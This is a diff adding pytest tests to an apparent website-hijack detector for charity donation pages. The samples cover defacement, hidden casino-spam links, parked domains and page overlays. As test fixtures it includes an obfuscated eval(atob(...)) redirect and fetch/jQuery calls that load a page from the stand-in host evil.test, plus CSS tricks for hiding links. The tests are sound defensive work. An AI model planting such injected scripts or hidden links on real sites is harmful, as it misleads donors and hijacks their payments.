@@ -229,3 +229,96 @@ def test_a_page_that_broke_off_may_already_show_a_danger() -> None:
     broken = seen(page(account=OTHER_IBAN), failure=Failure.BROKEN_BODY)
     assert outcome(broken) == SWAPPED
     assert outcome(seen(page(), failure=Failure.BROKEN_BODY)) == ("protocol_error", "broken_body")
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "eval(atob('bG9jYXRpb249J2h0dHBzOi8vZXZpbC50ZXN0Lyc='))",
+        "fetch('https://evil.test/p').then(r=>r.text()).then(t=>document.documentElement.innerHTML=t)",
+        "$('body').load('https://evil.test/p')",
+    ],
+)
+def test_a_script_that_lays_a_strangers_page_over_this_one_is_a_danger(script: str) -> None:
+    assert judge(page(extra=f"<script>{script}</script>")).verdict_class is VerdictClass.DANGER
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "eval('var a = 1')",
+        "fetch('https://api.example.org/news').then(r=>r.text()).then(t=>{news.innerHTML=t})",
+        "$('#news').load('https://example.org/news.html')",
+    ],
+)
+def test_a_script_that_fills_a_corner_is_no_danger(script: str) -> None:
+    assert outcome(page(extra=f"<script>{script}</script>"))[0] == "live"
+
+
+def test_a_base_element_of_a_stranger_moves_every_link() -> None:
+    assert outcome(page(head='<base href="https://evil.test/">')) == ("hijack_suspect", "donation_link_changed")
+    for own in ("/", "https://www.charity.test/", "https://payment.test/"):
+        assert judge(page(head=f'<base href="{own}">')).verdict_class is not VerdictClass.DANGER
+
+
+@pytest.mark.parametrize(
+    "line", ["Hacked by Somebody", "Piraté par Quelqu'un", "Hackeado por Alguien", "Diretas oleh X"]
+)
+def test_whoever_breaks_in_signs_also_a_page_that_is_left_whole(line: str) -> None:
+    assert outcome(page(extra=f"<p>{line}</p>")) == ("hijack_suspect", "defaced")
+    assert outcome(page(title=line, heading=line)) == ("hijack_suspect", "defaced")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "Last year our website was hacked by strangers; we restored it within a day and lost nothing.",
+        "Our hackathon: hacked by twenty teams in one long night",
+    ],
+)
+def test_a_story_about_a_break_in_is_no_signature(line: str) -> None:
+    assert outcome(page(extra=f"<p>{line}</p>"))[0] == "live"
+
+
+HIDDEN = [
+    '<div style="position:absolute;left:-9999px">{}</div>',
+    '<div style="overflow:hidden;height:0">{}</div>',
+    '<div style="text-indent:-99999px">{}</div>',
+    '<div style="display:none">{}</div>',
+]
+
+
+@pytest.mark.parametrize("hidden", HIDDEN)
+def test_a_few_hidden_links_to_casinos_are_injected_spam(hidden: str) -> None:
+    links = "".join(f'<a href="https://c{n}.example.net/">slot gacor</a>' for n in range(4))
+    assert outcome(page(extra=hidden.format(links))) == ("hijack_suspect", "injected_spam")
+    friends = "".join(f'<a href="https://f{n}.example.net/">our friends</a>' for n in range(4))
+    assert outcome(page(extra=hidden.format(friends)))[0] == "live"
+
+
+@pytest.mark.parametrize("title", ["激安ブランドコピー 通販", "在线娱乐城 真人", "Online casino real money"])
+def test_a_strange_title_over_the_approved_page_is_spam(title: str) -> None:
+    assert outcome(page(title=title)) == ("hijack_suspect", "spam_title")
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        "Tên miền này đang được rao bán",
+        "Il dominio è parcheggiato",
+        "Deze domeinnaam is gereserveerd",
+        "Domain ini dijual",
+        "ドメインパーキング",
+        "도메인 파킹",
+        "خرید دامنه",
+        "यह डोमेन बिक्री के लिए",
+        "Αυτό το όνομα χώρου πωλείται",
+    ],
+)
+def test_a_domain_for_sale_is_parked_in_further_languages(title: str) -> None:
+    assert outcome(notice(title))[0] == "parked"
+
+
+@pytest.mark.parametrize("title", ["Situs ini telah diretas", "网站已被入侵", "این سایت هک شد", "Website đã bị hack"])
+def test_a_defaced_page_is_a_hijack_in_further_languages(title: str) -> None:
+    assert outcome(notice(title)) == ("hijack_suspect", "defaced")
